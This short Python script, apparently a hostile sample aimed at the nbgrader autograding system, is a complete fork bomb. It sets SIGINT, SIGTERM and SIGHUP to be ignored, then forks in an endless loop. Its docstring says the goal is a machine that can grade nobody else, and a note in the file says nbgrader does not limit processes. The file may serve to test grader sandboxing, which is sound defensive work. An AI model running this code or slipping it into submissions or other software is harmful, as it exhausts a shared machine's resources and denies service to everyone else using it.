"""Fork without end, each child ignoring all signals.

Gain: a machine that grades nobody else.
"""

HARMS = "forks without end; nothing in nbgrader limits processes"

# %%
import os
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
